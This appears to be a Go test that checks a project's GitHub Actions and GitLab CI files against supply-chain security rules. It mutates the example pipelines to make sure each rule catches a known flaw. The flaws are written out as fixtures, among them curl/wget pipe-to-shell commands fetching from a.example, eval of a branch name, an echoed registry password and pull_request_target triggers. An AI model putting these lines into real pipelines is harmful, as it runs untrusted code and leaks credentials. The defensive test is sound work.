package e2e

import (
	"os"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"
)

// pipelines are the CI files of this repository, and those that it offers to others. None
// gives a stranger's code a credential, or runs what somebody else can change.
var pipelines = map[string]func(map[string]any) []string{
	"../examples/github.yml":      github,
	"../.github/workflows/ci.yml": github,
	"../examples/gitlab-ci.yml":   gitlab,
	"../.gitlab-ci.yml":           gitlab,
}

func problems(t *testing.T, text string, rules func(map[string]any) []string) []string {
	t.Helper()
	var pipeline map[string]any
	if err := yaml.Unmarshal([]byte(text), &pipeline); err != nil {
		t.Fatal(err)
	}
	return rules(pipeline)
}

func TestPipelines(t *testing.T) {
	for file, rules := range pipelines {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, problem := range problems(t, string(text), rules) {
			t.Errorf("%s: %s", file, problem)
		}
		if !strings.HasPrefix(file, "../examples/") {
			continue
		}
		// Who copies it says where Slipway is: one line, which only needs its # taken away.
		var named struct{ Env, Variables map[string]any }
		if err := yaml.Unmarshal([]byte(strings.Replace(string(text), "# DAGGER_MODULE:", "DAGGER_MODULE:", 1)), &named); err != nil {
			t.Errorf("%s: %v", file, err)
		}
		if named.Env["DAGGER_MODULE"] == nil && named.Variables["DAGGER_MODULE"] == nil {
			t.Errorf("%s: there is no line for DAGGER_MODULE", file)
		}
	}
}

// Each rule finds the example at fault once it is broken.
func TestPipelineRules(t *testing.T) {
	const (
		hub = "../examples/github.yml"
		lab = "../examples/gitlab-ci.yml"

		check  = "run: dagger check\n"
		checks = "    - dagger check\n"
		cli    = "@sha256:625d9431a9f54c5a2bc90f24f0e1c3d55b1349fd857dd85035f98c2c9acbdd4d"
		dind   = "@sha256:2a232a42256f70d78e3cc5d2b5d6b3276710a0de0596c145f627ecfae90282ac"
		tagged = `$CI_COMMIT_TAG && $CI_COMMIT_REF_PROTECTED == "true"`
	)
	for name, c := range map[string]struct{ file, old, new, want string }{
		"a fork's code with our rights": {hub, "  pull_request:\n", "  pull_request_target:\n", "pull_request_target"},
		"a comment starts it":           {hub, "  pull_request:\n", "  pull_request:\n  issue_comment:\n", "issue_comment"},
		"rights for all jobs":           {hub, "permissions: {}\n", "permissions: write-all\n", "permissions"},
		"no word on rights":             {hub, "permissions: {}\n", "", "permissions"},
		"check may write":               {hub, "s:\n      contents: read\n", "s:\n      contents: write\n", "contents: write"},
		"check has a token":             {hub, check, check + "        env:\n          A: ${{ secrets.A }}\n", "check: has a secret"},
		"publish may deploy":            {hub, "packages: write\n", "packages: write\n      id-token: write\n", "publish: may do the work of two"},
		"a stored kubeconfig":           {hub, "IMAGE: ${{", "K: ${{ secrets.KUBE }}\n          IMAGE: ${{", "a stored kubeconfig"},
		"an action by tag":              {hub, "@de0fac2e4500dabe0009e67214ff5f5447ce83dd", "@v6", "no commit"},
		"a name in a shell":             {hub, check, "run: echo ${{ github.head_ref }}\n", "expression in a shell"},
		"a token left behind":           {hub, "persist-credentials: false", "persist-credentials: true", "persist-credentials"},
		"from any branch":               {hub, "git merge-base --is-ancestor", "echo", "not known to be on the main branch"},
		"for any push":                  {hub, "startsWith(github.ref, 'refs/tags/v')", "true", "not only for tags"},
		"a script from elsewhere":       {hub, check, "run: curl -fsSL https://a.example/i.sh | sudo -E sh\n", "runs what it downloads"},
		"any program":                   {hub, "sha256sum --check --strict", "cat", "without a checksum"},

		"an image by tag":              {lab, cli, "", "no digest"},
		"a service by tag":             {lab, dind, "", "no digest"},
		"a job with an image of its":   {lab, "check:\n", "check:\n  image: alpine\n", "no digest"},
		"a package of the day":         {lab, checks, "    - apk add curl\n", "installs"},
		"check has the password":       {lab, checks, "    - echo \"$CI_REGISTRY_PASSWORD\"\n", "check: has a secret"},
		"check has an identity":        {lab, "check:\n", "check:\n  id_tokens: {A: {aud: a}}\n", "check: has a secret"},
		"for any tag":                  {lab, tagged, "$CI_COMMIT_TAG", "not only for protected tags"},
		"from any branch of GitLab":    {lab, "git merge-base --is-ancestor", "echo", "not known to be on the main branch"},
		"a stored kubeconfig, too":     {lab, "printf '", "echo \"$KUBECONFIG_CONTENT\" '", "a stored kubeconfig"},
		"a name that the shell splits": {lab, "--version \"$CI_COMMIT_TAG\"", "--version $CI_COMMIT_TAG", "without quotes"},
		"a name that the shell runs":   {lab, checks, "    - eval \"$CI_COMMIT_REF_NAME\"\n", "eval"},
		"another's script":             {lab, checks, "    - wget -O- https://a.example/i.sh | sh\n", "runs what it downloads"},
	} {
		t.Run(name, func(t *testing.T) {
			text, err := os.ReadFile(c.file)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(text), c.old) {
				t.Fatalf("there is no %q in %s", c.old, c.file)
			}
			found := problems(t, strings.Replace(string(text), c.old, c.new, -1), pipelines[c.file])
			if !strings.Contains(strings.Join(found, "\n"), c.want) {
				t.Errorf("got %q, want %q", found, c.want)
			}
		})
	}
}
